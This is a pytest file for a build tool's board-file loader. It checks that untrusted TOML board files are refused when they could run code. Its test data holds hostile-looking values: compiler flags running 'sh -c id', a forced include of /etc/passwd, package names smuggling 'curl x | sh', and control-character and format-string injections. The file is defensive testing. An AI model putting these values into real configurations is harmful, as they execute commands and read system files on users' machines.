"""Untrusted board files: the attacks of the threat model."""

from __future__ import annotations

import typing
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest
from msgspec import inspect

from runec.boards import Board, load_board, load_boards
from runec.boards.trust import _RULES, unusual_flags
from runec.diagnostics import UserFileError

HEAD = 'inherits = "nucleo_f401re"\nid = "mine"\nname = "Mine"\nverified = []\n'
CPP = "riscv64-unknown-elf-g++"


def write(folder: Path, text: str, head: str = HEAD) -> str:
    path = folder / "mine.toml"
    path.write_text(head + text)
    return str(path)


def flags(*words: str, key: str = "flags") -> str:
    return f"[toolchain]\n{key} = {list(words)}\n"


def upload(*command: str, script: str = "[]", package: str = "tool") -> str:
    return (
        f'[upload]\nprotocol = "x"\ncommand = {list(command)}\nscript = {script}\n'
        f'package = "{package}"\nesp_chip = 5\n'
    )


CONSTANTS = "[memory]\nconstants = { origin = 0x0804_0000, size_bytes = 262_144 }\n"


NEEDS_TRUST = {
    "wrapper": flags("-mcpu=cortex-m4", "-wrapper", "sh,-c,id"),
    "plugin": flags("-fplugin=evil"),
    "plugin of the linker": flags("-Wl,-plugin,x.so", key="link_flags"),
    "module mapper": flags("-fmodule-mapper=|id"),
    "programs from a folder": flags("-B/opt/x"),
    "another linker": flags("-fuse-ld=evil"),
    "specs file": flags("--specs=/opt/x.specs"),
    "specs file of the family": flags("-mmcu=../../opt/x"),
    "file of options": flags("@/opt/options"),
    "file to write": flags("-Wl,-Map=/etc/x", key="link_flags"),
    "another script": flags("-T", "/x/x.ld", key="link_flags"),
    "forced include": flags("-include", "/etc/passwd"),
    "a file": flags("/x/x.o", key="link_flags"),
    "what SCons executes": flags("-DX=${__import__('os').system('id')}"),
    "plugin in the emulator": '[emulator.overrides.toolchain]\nflags = ["-fplugin=evil"]\n',
    "SCons in the emulator": '[emulator.overrides.toolchain]\nflags = ["-DX=${1}"]\n',
    "compiler by its path": '[toolchain]\nprefix = "/opt/evil-"\n',
    "compiler beside": '[toolchain]\nprefix = "./evil-"\n',
    "headers": '[toolchain]\ncxx_headers_from = "sh"\n',
    "packages to type": '[toolchain]\npackages = ["gcc; curl x | sh"]\n',
    "package of PlatformIO": '[toolchain]\npio_package = "evil/toolchain@1.0"\n',
    "emulator": '[emulator]\nkind = "qemu"\ntarget = "x"\nprogram = "sh"\n',
    "emulator flags": '[emulator]\nkind = "qemu"\ntarget = "x"\nprogram = "qemu-system-arm"\n'
    'flags = ["-device", "loader,file=/etc/passwd"]\n',
    "emulator dumps": '[emulator]\ntarget = "virt,dumpdtb=/opt/x"\n',
    "description of a chip": '[emulator]\ntarget = "chip.yaml"\n',
    "emulator option with a blank": '[emulator]\nflags = ["-cpu x"]\n',
    "upload": upload("sh", "-c", "id"),
    "upload of openocd": upload("openocd", "-c", "exec id"),
    "upload writes a file": upload("esptool", "read_flash", "0", "1", "/home/x/.bashrc"),
    "upload merges": upload("esptool", "merge_bin", "-o", "Makefile", "0x0", "{elf}"),
    "upload merges by another name": upload("esptool", "--chip", "esp32", "merge-bin", "-o", "x"),
    "upload reads": upload("esptool", "--port", "{port}", "write_flash", "0x0", "notes.txt"),
    "upload of an image": upload("esptool", "elf2image", "{elf}"),
    "upload burns fuses": upload("esptool", "write_flash_status", "--non-volatile", "0"),
    "upload after an upload": upload("esptool", "write_flash", "0x0", "{app}", "read_flash", "x"),
    "upload with a library": upload("nrfjprog", "--jdll", "evil"),
    "upload with another library": upload("nrfjprog", "--program", "{image}", "--jdll", "evil"),
    "upload reads the board": upload("nrfjprog", "--readcode", "Makefile"),
    "upload with settings": upload("nrfjprog", "--qspiini", "evil"),
    "dfu reads the board": upload("dfu-util", "-a", "0", "-U", "Makefile"),
    "dfu reads in one word": upload("dfu-util", "-UMakefile", "-D", "{image}"),
    "dfu of another file": upload("dfu-util", "-D", "notes"),
    "st-flash reads": upload("st-flash", "read", "Makefile", "0x8000000", "4096"),
    "bossac reads": upload("bossac", "-r", "Makefile"),
    "bossac reads in one word": upload("bossac", "--read=4", "Makefile"),
    "upload script": upload("JLinkExe", script='["ShExe"]'),
    "upload package": upload("dfu-util", "-D", "{image}", package="a; curl x | sh"),
    "other upload": f"[[other_uploads]]\n{upload('sh').split(chr(10), 1)[1]}",
    "upload value": '[upload_values]\nopenocd_target = "/opt/evil.cfg"\n',
    "text of the project": '[upload_values]\nopenocd_target = "README.md"\n',
    "text of the project as a name": '[upload_values]\nopenocd_interface = "NOTICE"\n',
    "file for a name": '[upload_values]\njlink_device = "x.jlink"\n',
    "openocd runs a script of the board's": upload("openocd", "-f", "evil.cfg", "-c", "init"),
    "openocd runs the image": upload("openocd", "-f", "{image}"),
    "pyocd runs a script": upload("pyocd", "flash", "--script=x.py", "{elf}"),
    "script beside the board": '[upload_values]\nopenocd_target = "evil/evil.cfg"\n',
    "upload value up": '[upload_values]\nopenocd_target = "../evil.cfg"\n',
    "upload value of Tcl": '[upload_values]\nopenocd_transport = "swd; exec id"\n',
    "platform of a stranger": '[vendor]\nplatform = "evil/ststm32"\n',
    "platform of a name": '[vendor]\nplatform = "evilplatform"\n',
    "platform from a URL": '[vendor]\nplatform = "https://example.com/x.git"\n',
    "platform from a folder": '[vendor]\nplatform = "symlink://../x"\n',
    "framework": '[vendor]\nframework = "arduino\\u0020-x"\n',
}


@pytest.mark.parametrize("text", NEEDS_TRUST.values(), ids=NEEDS_TRUST)
def test_what_could_run_code_needs_trust(text: str, tmp_path: Path) -> None:
    path = write(tmp_path, text)
    with pytest.raises(UserFileError) as caught:
        load_board(path)
    assert caught.value.code == "R0842"
    assert "requires --trust-board: " in caught.value.message
    assert "--trust-board" in (caught.value.hint or "")
    span = caught.value.span
    assert span is not None
    assert span.line > HEAD.count("\n")
    load_board(path, trusted=True)


@pytest.mark.parametrize("text", NEEDS_TRUST.values(), ids=NEEDS_TRUST)
def test_the_users_own_folder_is_trusted(
    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RUNEC_BOARDS_DIR", str(tmp_path))
    assert load_board(write(tmp_path, text)) == load_board("mine")


HARMLESS = {
    "nothing": "",
    "chip": '[cpu]\nname = "STM32F411RE"\nclock_hz = 100_000_000\n[hal.defines]\n'
    "HAL_PLL_N = 400\nHAL_PLL_P = 4\nHAL_PLL_Q = 9\nHAL_WAIT_STATES = 3\n"
    "HAL_USART_CLOCK_HZ = 50_000_000\nHAL_I2C_CLOCK_HZ = 50_000_000\n",
    "memory": "[memory]\nram = { origin = 0x2000_0000, size_bytes = 131_072 }\n",
    "soft float in the emulator": "[emulator.overrides.toolchain]\n"
    'flags = ["-mcpu=cortex-m4", "-mthumb", "-mfloat-abi=soft"]\n',
    "FPU": flags("-mcpu=cortex-m4", "-mthumb", "-mfpu=fpv4-sp-d16", "-mfloat-abi=hard"),
    "RISC-V": flags("-march=rv32imac_zicsr", "-mabi=ilp32", "-mcmodel=medany", "-O2", "-g"),
    "warnings, definitions": flags("-Wall", "-Wno-unused", "-DBOARD_REVISION=3", "-UNDEBUG"),
    "linker": flags("-Wl,--gc-sections", "-Wl,--defsym=x=0x10", "-lm", key="link_flags"),
    "what runec's boards have": flags("--specs=/usr/lib/xtensa-lx106-elf/picolibc.specs"),
    "compiler": f'[toolchain]\nprefix = "riscv32-esp-elf-"\ncxx_headers_from = "{CPP}"\n',
    "emulator": '[emulator]\nkind = "qemu"\ntarget = "olimex-stm32-h405"\n'
    'program = "qemu-system-arm"\nflags = ["-icount", "shift=2", "-nographic", "-m", "16M"]\n',
    "second serial port": '[emulator]\nflags = ["-nographic", "-serial", "null"]\n',
    "upload": upload(
        "esptool",
        "--chip",
        "esp32s3",
        "--port",
        "{port}",
        "write_flash",
        "0x0",
        "{image}",
        "0x200000",
        "{constants}",
    )
    + CONSTANTS,
    "dfu": upload(
        "dfu-util", "-d", "0483:df11", "-a", "0", "-s", "0x08000000:leave", "-D", "{image}"
    ),
    "esptool as PlatformIO calls it": upload(
        *("esptool.py", "--chip", "esp32", "--port", "{port}", "--baud", "460800"),
        *("--before", "default_reset", "--after", "hard_reset", "write_flash", "-z"),
        *("--flash_mode", "dio", "--flash_freq", "80m", "--flash_size", "4MB", "0x10000", "{app}"),
    ),
    "esptool 5": upload(
        "esptool", "-p", "{port}", "write-flash", "--flash-size", "detect", "0", "{app}"
    ),
    "nrfjprog": upload(
        *("nrfjprog", "-f", "NRF52", "--program", "{image}", "--sectorerase", "--verify", "-r")
    ),
    "st-flash": upload("st-flash", "--reset", "write", "{image}", "{code_origin}"),
    "bossac": upload("bossac", "-p", "{port}", "-e", "-w", "-v", "{image}", "-R"),
    "bossac of Arduino": upload(
        "bossac", "--port={port}", "-U", "-i", "--offset=0x2000", "-e", "-w", "{image}", "-R"
    ),
    "pyocd": upload("pyocd", "flash", "-t", "{pyocd_target}", "--format=elf", "{elf}"),
    "openocd": upload(
        *("openocd", "-f", "interface/cmsis-dap.cfg", "-f", "{openocd_target}"),
        *("-c", "adapter speed 5000", "-c", "program {elf} verify reset exit"),
    ),
    "upload values": '[upload_values]\nopenocd_target = "target/stm32f1x.cfg"\n'
    'pyocd_target = "stm32f411retx"\n',
    "pins": '[pins]\nlamp = { pin = "PB7", active_low = true }\n',
    "vendor": '[vendor]\nplatform = "ststm32@19.6.0"\nboard = "nucleo_f411re"\n',
    "vendor of PlatformIO": '[vendor]\nplatform = "platformio/atmelsam@^8.0"\nboard = "mkrzero"\n',
}


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS)
def test_a_usual_board_file_beside_a_project_needs_no_trust(text: str, tmp_path: Path) -> None:
    assert load_board(write(tmp_path, text)).id == "mine"


def test_every_board_of_runec_may_be_copied(tmp_path: Path) -> None:
    for board in load_boards():
        text = f'inherits = "{board.id}"\nid = "copy"\nname = "Copy"\nverified = []\n'
        path = tmp_path / "copy.toml"
        path.write_text(text)
        copy = load_board(str(path))
        assert copy.toolchain == board.toolchain
        whole = {**msgspec.to_builtins(board), "id": "copy"}
        del whole["inherits"]
        path.write_text(toml(whole))
        assert load_board(str(path)).upload == board.upload


def toml(value: object) -> str:
    """Spell a table inline, which is TOML as well."""
    if isinstance(value, dict):
        items = {key: item for key, item in value.items() if item is not None}
        return "\n".join(f"{_text(key)} = {_inline(item)}" for key, item in items.items()) + "\n"
    raise TypeError(value)


def _text(text: str) -> str:
    return msgspec.json.encode(text).decode()


def _inline(value: typing.Any) -> str:
    if isinstance(value, dict):
        pairs = (f"{_text(k)} = {_inline(v)}" for k, v in value.items() if v is not None)
        return "{ " + ", ".join(pairs) + " }"
    if isinstance(value, list | tuple):
        return "[" + ", ".join(map(_inline, value)) + "]"
    return msgspec.json.encode(value).decode()


def test_a_file_beside_that_is_inherited_is_not_trusted_either(tmp_path: Path) -> None:
    write(tmp_path, flags("-fplugin=evil"))
    (tmp_path / "heir.toml").write_text(
        HEAD.replace("nucleo_f401re", "mine").replace('"mine"\nname', '"heir"\nname')
    )
    with pytest.raises(
        UserFileError, match=r"mine\.toml: toolchain\.flags = '-fplugin=evil' requires"
    ):
        load_board(str(tmp_path / "heir.toml"))


def test_a_dollar_in_a_text_needs_trust(tmp_path: Path) -> None:
    path = write(tmp_path, '[cpu]\nname = "${__import__(1)}"\n')
    with pytest.raises(UserFileError, match=r"cpu.name = '\$' requires"):
        load_board(path)


CONTROLS = {
    "newline": '"X\\n[env:evil]"',
    "carriage return": '"X\\r[env:evil]"',
    "escape": '"X\\u001b[2J"',
    "NUL": '"X\\u0000"',
    "next line": '"X\\u0085[env:evil]"',
    "line separator": '"X\\u2028[env:evil]"',
    "direction": '"X\\u202e"',
    "lines": '"""X\n[env:evil]"""',
}


@pytest.mark.parametrize("value", CONTROLS.values(), ids=CONTROLS)
@pytest.mark.parametrize("trusted", [False, True])
def test_control_characters_are_refused_in_every_text(
    value: str, trusted: bool, tmp_path: Path
) -> None:
    places = (
        HEAD.replace('"Mine"', value),
        f"{HEAD}[cpu]\nname = {value}\n",
        f"{HEAD}[toolchain]\nflags = [{value}]\n",
        f"{HEAD}[hal]\nconsole = {value}\n",
        f'{HEAD}[[sensors]]\nname = "x"\nmeasures = {value}\nbus = "y"\n',
    )
    keys = ("name", "cpu.name", "toolchain.flags", "hal.console", "sensors")
    for text, key in zip(places, keys, strict=True):
        with pytest.raises(UserFileError, match=f"U\\+.* in {key}$") as caught:
            load_board(write(tmp_path, text, head=""), trusted=trusted)
        assert caught.value.code == "R0843"


def test_a_key_has_no_control_characters_either(tmp_path: Path) -> None:
    with pytest.raises(UserFileError) as caught:
        load_board(write(tmp_path, '[hal.ports]\n"PA\\n#define X" = 0\n'))
    assert caught.value.code == "R0843"


def strings(kind: inspect.Type, path: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    """Yield the path of every text in a board file that has no pattern."""
    if isinstance(kind, inspect.StructType):
        for field in kind.fields:
            yield from strings(field.type, (*path, field.encode_name))
    elif isinstance(kind, inspect.VarTupleType):
        yield from strings(kind.item_type, path)
    elif isinstance(kind, inspect.DictType):
        yield from strings(kind.value_type, (*path, "*"))
    elif isinstance(kind, inspect.UnionType):
        for each in kind.types:
            yield from strings(each, path)
    elif isinstance(kind, inspect.StrType) and kind.pattern is None:
        yield path


# Texts that only people read, or that are compared with others.
FOR_PEOPLE = {
    ("name",),
    ("url",),
    ("verified_reason",),
    ("cpu", "name"),
    ("cpu", "isa"),
    ("toolchain", "libc"),
    ("hal", "console"),
    ("hal", "i2c"),
    ("hal", "reserved", "*"),
    ("hal", "caution", "*"),
    ("pins", "*", "pin"),
    ("sensors", "measures"),
    ("sensors", "bus"),
    ("upload", "note"),
    ("other_uploads", "note"),
    ("upload", "wake"),
    ("other_uploads", "wake"),
    ("vendor", "preferred_because"),
}


def test_every_text_of_a_board_has_a_rule_or_is_for_people() -> None:
    ruled = {*_RULES}
    ruled |= {
        (way, key)
        for way in ("upload", "other_uploads")
        for key in ("command", "script", "package")
    }
    assert {*strings(inspect.type_info(Board))} - ruled == FOR_PEOPLE


def test_flags_that_need_trust_are_found() -> None:
    ours = [board.toolchain for board in load_boards()]
    assert unusual_flags(flag for tools in ours for flag in (*tools.flags, *tools.link_flags)) == ()
    assert unusual_flags(["-mthumb", "-wrapper", "sh,-c,id"]) == ("-wrapper", "sh,-c,id")


NAMES = {
    "unknown": upload("dfu-util", "-D", "{imag}"),
    "of a board with constants": upload("esptool", "write_flash", "0x0", "{constants}"),
    "of a script that is none": upload("JLinkExe", "-CommandFile", "{script}"),
    "attribute": upload("dfu-util", "-D", "{image.__class__}"),
    "width": upload("dfu-util", "-D", "{image:>999999999}"),
    "conversion": upload("dfu-util", "-D", "{image!r}"),
    "position": upload("dfu-util", "-D", "{}"),
    "brace": upload("dfu-util", "-D", "{image}}"),
    "in a script": upload("JLinkExe", "{script}", script='["loadbin {imag}"]'),
    "other": f"[[other_uploads]]\n{upload('x', '{imag}').split(chr(10), 1)[1]}",
}


@pytest.mark.parametrize("text", NAMES.values(), ids=NAMES)
def test_a_name_that_stands_for_nothing_is_refused(text: str, tmp_path: Path) -> None:
    with pytest.raises(UserFileError, match="unknown name in braces") as caught:
        load_board(write(tmp_path, text), trusted=True)
    assert caught.value.code == "R0801"
    assert "code_origin, elf, image, " in (caught.value.hint or "")
    assert caught.value.span is not None
    assert caught.value.span.line > HEAD.count("\n")
